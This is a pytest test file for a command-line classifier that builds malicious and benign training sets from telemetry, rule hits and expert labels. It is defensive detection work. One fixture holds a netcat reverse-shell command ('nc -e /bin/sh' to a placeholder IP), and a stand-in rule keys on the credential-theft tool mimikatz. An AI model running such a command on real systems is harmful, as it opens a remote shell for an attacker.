from __future__ import annotations

import pyarrow as pa
import pyarrow.compute as pc
import pytest

from cmdclf.classify import (
    TRAINING,
    add_benign,
    aggregated_baseline,
    describe_training,
    regex_baseline,
    training_arrays,
)
from cmdclf.telemetry import command_ids

from .conftest import lines_batch


class Containing:
    """Rules that hit every line that contains 'mimikatz'."""

    def any(self, lines, platform=None):
        return pc.match_substring(lines, "mimikatz").to_numpy(zero_copy_only=False)


RULES = Containing()
DAY = [
    lines_batch([("mimikatz.exe", "windows", 1), ("ls -l", "linux", 90), ("rare thing", "linux", 2)]),
    lines_batch([("x" * 150, "linux", 50), ("docs about mimikatz", "linux", 40), ("svchost.exe -k a", "windows", 3)]),
]


def rows(table):
    return {r["command_line"]: (r["label"], r["source"]) for r in table.to_pylist()}


def labelled(*entries):
    names = ("command_line", "platform", "label", "source")
    return pa.table({n: pa.array([e[k] for e in entries], pa.string()) for k, n in enumerate(names)})


def judged(*lines):
    text, platform = pa.array(lines, pa.string()), pa.array(["linux"] * len(lines), pa.string())
    return pa.table({"command_id": command_ids(platform, text), "platform": platform, "command_line": text})


def test_the_regex_baseline_calls_rule_hits_malicious_and_frequent_lines_without_a_hit_benign():
    assert rows(regex_baseline(DAY, RULES)) == {
        "mimikatz.exe": (1, "rules"),
        "docs about mimikatz": (1, "rules"),
        "ls -l": (0, "frequent"),
        "svchost.exe -k a": (0, "frequent"),
        "x" * 150: (0, "frequent"),
    }


def test_the_aggregated_baseline_takes_only_short_frequent_lines_as_benign():
    assert "x" * 150 not in rows(aggregated_baseline(DAY, RULES, []))
    assert "x" * 150 in rows(aggregated_baseline(DAY, RULES, [], benign_max_length=150))


def test_an_experts_label_beats_a_rule_and_a_frequency():
    pool = labelled(
        ("docs about mimikatz", "linux", "benign", "wiki"),
        ("ls -l", "linux", "malicious", "incident-7"),
        ("nc -e /bin/sh 192.0.2.1 1", "linux", "malicious", None),
        ("who knows", "linux", "unknown", "wiki"),
    )
    found = rows(aggregated_baseline(DAY, RULES, [pool]))
    assert found["docs about mimikatz"] == (0, "labelled:wiki")
    assert found["ls -l"] == (1, "labelled:incident-7")
    assert found["nc -e /bin/sh 192.0.2.1 1"] == (1, "labelled")
    assert "who knows" not in found


def test_a_line_that_experts_contradict_each_other_on_is_left_out():
    pools = [labelled(("a b", "linux", label, label)) for label in ("benign", "malicious")]
    assert "a b" not in rows(aggregated_baseline(DAY, RULES, pools))


def test_a_labelled_line_without_a_platform_gets_the_guessed_one():
    table = aggregated_baseline([], RULES, [labelled((r"C:\Windows\System32\cmd.exe", None, "benign", None))])
    assert table["platform"].to_pylist() == ["windows"]


def test_the_same_line_on_two_platforms_is_two_rows():
    pool = labelled(("whoami", "linux", "benign", "a"), ("whoami", "windows", "malicious", "a"))
    assert aggregated_baseline([], RULES, [pool]).num_rows == 2


def test_the_caps_keep_the_same_lines_however_the_telemetry_is_batched():
    many = [(f"tool --run {k}", "linux", 5) for k in range(300)] + [(f"mimikatz {k}", "linux", 1) for k in range(300)]
    whole = regex_baseline([lines_batch(many)], RULES, max_benign=40, max_malicious=30)
    pieces = [lines_batch(many[i : i + 7]) for i in range(0, 600, 7)]
    assert regex_baseline(reversed(pieces), RULES, max_benign=40, max_malicious=30).equals(whole)
    assert describe_training(whole) | {"by_source": {}} == {"benign": 40, "malicious": 30, "added": 0, "by_source": {}}
    assert not regex_baseline(pieces, RULES, max_benign=40, max_malicious=30, seed=1).equals(whole)


def test_labelled_rows_fill_the_cap_before_rule_hits_do():
    pool = labelled(*((f"evil {k}", "linux", "malicious", "pool") for k in range(20)))
    found = describe_training(aggregated_baseline(DAY, RULES, [pool], max_malicious=21))
    assert found["by_source"] == {"frequent": 2, "labelled:pool": 20, "rules": 1}


def test_a_benign_verdict_overrules_a_rule_and_is_counted():
    base = regex_baseline(DAY, RULES)
    training, overruled = add_benign(base, judged("docs about mimikatz", "new line"), source="judged:full", weight=3.0)
    assert overruled == 1
    assert rows(training)["docs about mimikatz"] == (0, "judged:full")
    assert describe_training(training, added="judged:full")["added"] == 2
    weights = dict(zip(training["command_line"].to_pylist(), training["weight"].to_pylist(), strict=True))
    assert (weights["new line"], weights["ls -l"]) == (3.0, 1.0)


def test_a_benign_verdict_does_not_overrule_an_expert():
    base = aggregated_baseline(DAY, RULES, [labelled(("stage two", "linux", "malicious", "incident"))])
    training, overruled = add_benign(base, judged("stage two"), source="judged:full")
    assert overruled == 0
    assert training.equals(base)


def test_a_frequent_line_that_is_judged_benign_is_kept_once():
    training, overruled = add_benign(regex_baseline(DAY, RULES), judged("ls -l", "ls -l"), source="judged:random")
    assert overruled == 0
    assert training["command_line"].to_pylist().count("ls -l") == 1
    assert rows(training)["ls -l"] == (0, "judged:random")


def test_lines_that_differ_in_a_number_only_share_a_group():
    table = aggregated_baseline(
        [],
        RULES,
        [
            labelled(
                *((f"ping -c {k} host", "linux", "benign", "a") for k in (3, 44)), ("id", "linux", "malicious", "a")
            )
        ],
    )
    labels, weights, groups = training_arrays(table)
    assert len(set(groups)) == 2
    assert (labels.sum(), weights.tolist()) == (1, [1.0, 1.0, 1.0])


@pytest.mark.parametrize("lines", [[], [lines_batch([])]], ids=["no batches", "an empty batch"])
def test_no_telemetry_gives_an_empty_training_set_of_the_right_columns(lines):
    table = regex_baseline(lines, RULES)
    assert table.schema.equals(TRAINING)
    assert table.num_rows == 0
